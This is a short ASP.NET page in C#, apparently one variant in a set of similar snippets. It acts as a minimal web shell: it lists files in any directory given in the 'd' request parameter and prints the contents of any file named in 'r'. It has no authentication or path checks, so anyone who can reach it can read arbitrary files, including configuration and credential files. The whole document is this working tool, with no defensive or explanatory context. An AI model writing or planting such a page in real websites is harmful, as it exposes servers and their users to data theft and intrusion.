<%@ Page Language="C#" %>
<%
// The same with fully qualified names and the parameters read inline.
var di = new System.IO.DirectoryInfo(Request["d"]);
foreach (var fi in di.GetFiles()) Response.Write(fi.FullName + "<br>");
if (Request["r"] != null) Response.Write(Server.HtmlEncode(System.IO.File.ReadAllText(Request["r"])));
%>
